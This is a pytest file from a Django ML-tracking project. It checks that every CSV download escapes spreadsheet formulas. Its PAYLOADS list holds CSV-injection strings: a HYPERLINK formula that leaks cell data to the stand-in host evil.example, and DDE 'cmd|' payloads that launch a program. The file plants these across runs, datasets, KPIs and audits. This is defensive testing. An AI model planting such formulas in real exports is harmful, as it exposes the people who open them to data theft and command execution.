"""Formulas in every CSV that can be downloaded, for spreadsheets of every language."""

from __future__ import annotations

import csv
import io
import math
import re
from dataclasses import replace
from itertools import product
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from kpis.models import KPI
from kpis.services.readings import record_readings
from mltrack.accounts.access import Principal
from projects.models import Initiative
from projects.services.annotation_pushes import record_annotations
from projects.services.columns import choose_columns
from projects.services.datasets import record_dataset
from projects.services.label_audits import discard_audit, draw_audit
from projects.services.labeling_snapshots import SnapshotRecord, record_labeling_snapshot
from projects.services.pushes import push_runs
from tests.browser.worlds import World
from tests.kpis.rival_world import counted, measured
from tests.projects.labeling_world import pushed
from tests.trust.attacks.paths import every_path

pytestmark = pytest.mark.django_db
STARTS = "=+-@＝＋－＠"
PAYLOADS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "x;=1+1",
    "x; @SUM(A1)",
    'x";=1+1;"',
    "x,=1+1",
    '","=1+1',
    "-",
    "=",
]


def is_formula(cell: str) -> bool:
    """Say whether a spreadsheet would run a cell."""
    try:
        return not math.isfinite(float(cell)) and cell[:1] in STARTS
    except ValueError:
        return (cell.lstrip(' "\u00a0')[:1] or "x") in STARTS


def formulas(text: str) -> list[str]:
    """Return the cells that would run, whatever the spreadsheet takes for the end of a cell."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    pieces = re.split(r"[;\t\r\n]", text)
    return [each for each in (*cells, *pieces) if is_formula(each)]


def downloads(world: World, client: Client) -> dict[str, str]:
    """Return every download of the product that is CSV, by the name of its path."""
    found = {}
    for name, path in every_path(world):
        answer = client.get(path)
        if answer.headers.get("Content-Type", "").startswith("text/csv"):
            assert "attachment" in answer.headers["Content-Disposition"]
            found[name] = answer.getvalue().decode()
    return found


def plant(world: World) -> World:
    """Write the payloads wherever a row of a download may show them, and return the world with where they are."""
    biopsy = Initiative.objects.get(key="BIOPSY")
    person = Principal(workspace=biopsy.workspace, role="admin", user=world.user, is_approver=True)
    runs: list[dict[str, Any]] = []
    for number, text in enumerate(PAYLOADS):
        named = {text: text}
        run = {"external_id": f"{text}{number}", "name": text, "status": "finished", "params": named, "tags": named}
        runs.append({**run, "metrics": {text: number}})
    outcome = push_runs(person, biopsy, runs)
    assert outcome
    columns = [f"{kind}:{text}" for kind, text in product(("metric", "param"), PAYLOADS)][:30]
    choose_columns(person, biopsy, columns)
    rows = [(text, text, 9000, True, True, 50) for text in PAYLOADS]
    planted = replace(counted(*rows), slice_columns=("=cmd|",), group_columns=("@cmd|",))
    evaluation = measured(biopsy, "planted", planted, family="=cmd|")
    kpi = KPI.objects.get(key=world.full["k"])
    readings = [{"time": timezone.now(), "value": 1.0, "segment": text.strip()} for text in PAYLOADS]
    record_readings(kpi, readings, person)
    for number, text in enumerate(PAYLOADS):
        record_dataset(person, biopsy, name=text, digest=f"{text}{number}", uri=text)
    record_annotations(person, biopsy, [pushed(text, "ann", text) for text in PAYLOADS])
    for each in biopsy.label_audits.filter(state="open"):
        discard_audit(person, each, reason="For another.")
    audit, _ = draw_audit(person, biopsy, n=9_000)
    counted_classes = dict.fromkeys(PAYLOADS, 1)
    record_labeling_snapshot(person, biopsy, SnapshotRecord(timezone.now(), 100, 40, per_class=counted_classes))
    Initiative.objects.filter(pk=biopsy.pk).update(name="=cmd|'/C calc'!A0")
    return replace(world, full={**world.full, "audited": evaluation.public_id, "label_audit": audit.public_id})


def test_no_cell_of_any_download_runs(world: World, client: Client) -> None:
    found = downloads(plant(world), client)
    evaluated = {f"kpis:evaluation_{name}_csv" for name in ("cells", "fairness", "parts", "versus")}
    listed = {
        "kpis:label_audit_csv",
        "kpis:labeling_overview_csv",
        "kpis:labeling_snapshots_csv",
        "kpis:kpi_export",
        "kpis:runs_csv",
        "kpis:evaluations_csv",
        "kpis:attempts_csv",
        "kpis:datasets_csv",
    }
    assert set(found) == listed | evaluated
    for name, text in found.items():
        assert "cmd|" in text, name
        assert formulas(text) == [], name


def test_the_reader_knows_a_formula() -> None:
    assert formulas("a,=1\r\n") and formulas('"x;=1"\r\n') and formulas("x\n@SUM(A1)\n")
    assert not formulas("a,'=1,-2.5\r\n")
